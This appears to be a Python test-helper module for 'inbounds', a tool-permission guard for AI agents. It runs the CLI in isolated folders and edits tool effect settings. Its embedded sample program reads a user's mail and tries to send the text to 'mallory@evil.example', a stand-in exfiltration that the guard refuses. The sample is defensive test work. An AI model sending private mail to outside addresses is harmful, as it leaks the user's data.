"""The installed console script in a folder of its own, as a person or a program calls it."""

from __future__ import annotations

import contextlib
import functools
import io
import json
import os
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

from tests import engines

from inbounds_tools.cli import main

SCRIPT = Path(sys.executable).parent / "inbounds"
ASSISTANT = """\
from inbounds import AccessDenied, Guard
guard = Guard()

@guard.tool("mail.read", resource=lambda id: ("mail", id))
def read(id: str) -> str: ...
@guard.tool("mail.send", resource=lambda to, body: ("mailbox", "alice"))
def send(to: list[str], body: str) -> None: ...

with guard.task("summarise", subject="alice@acme.example", prompt="Summarise mail 42") as task:
    text = read("42")
    try: send(["mallory@evil.example"], text)
    except AccessDenied as no: print(no.code, no.remedy)
print(task.report())                                  # in bounds · 1 ran · 1 refused
"""
"""What a framework author writes first, with arguments that a mail has."""


@dataclass(frozen=True, slots=True)
class Done:
    """How a command ended, and what it said."""

    code: int
    out: str
    err: str

    @property
    def json(self) -> Any:
        return json.loads(self.out)


@functools.cache
def _compiled() -> tempfile.TemporaryDirectory[str]:
    return tempfile.TemporaryDirectory(prefix="inbounds-cache-")


def caches() -> str:
    """Return the folder of this test run in which its programs keep compiled modules."""
    return _compiled().name


def environment(**more: str) -> dict[str, str]:
    """An environment in which nothing is set but what is said, and where OPA and caches are."""
    kept = {name: value for name, value in os.environ.items() if not name.startswith("INBOUNDS_")}
    kept |= {"INBOUNDS_OPA_BINARY": str(engines.opa_binary()), "NO_COLOR": "1", "COLUMNS": "200"}
    kept |= {"XDG_CACHE_HOME": caches()}
    return {name: value for name, value in (kept | more).items() if value}


def inbounds(folder: Path, *arguments: Any, **more: str) -> Done:
    """Run `inbounds …` in a folder; further names are variables, "" to leave one out."""
    done = subprocess.run(
        [SCRIPT, *map(str, arguments)],
        cwd=folder,
        env=environment(HOME=str(folder / "home"), **more),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert "Traceback" not in done.stderr, done.stderr
    return Done(done.returncode, done.stdout, done.stderr)


def called(folder: Path, *arguments: Any, **more: str) -> Done:
    """Do what `inbounds` does, in this process: starting one costs more than what is tested.

    The policy is compiled once for all such calls. Not for what ends with the process, or asks
    whether it was imported.
    """
    out, err, before = io.StringIO(), io.StringIO(), Path.cwd()
    with (
        mock.patch.dict(os.environ, environment(HOME=str(folder / "home"), **more), clear=True),
        contextlib.redirect_stdout(out),
        contextlib.redirect_stderr(err),
    ):
        os.chdir(folder)
        try:
            code = main([str(argument) for argument in arguments])
        finally:
            os.chdir(before)
    return Done(code, out.getvalue(), err.getvalue())


def python(folder: Path, file: str, **more: str) -> Done:
    """Run a program in a folder."""
    done = subprocess.run(
        [sys.executable, file],
        cwd=folder,
        env=environment(HOME=str(folder / "home"), **more),
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    return Done(done.returncode, done.stdout, done.stderr)


def set_effects(folder: Path, **effects: str) -> None:
    """Set the effects of drafted tools, as a person does in an editor: `mail_read="read"`."""
    path = folder / "deployment" / "tools.yaml"
    text = path.read_text("utf-8")
    for name, effect in effects.items():
        head, entry, tail = text.partition(f"\n{name.replace('_', '.')}:\n")
        assert entry, f"{name} is not registered"
        assert "  effects: []" in tail
        text = head + entry + tail.replace("  effects: []", f"  effects: [{effect}]", 1)
    path.write_text(text, "utf-8")
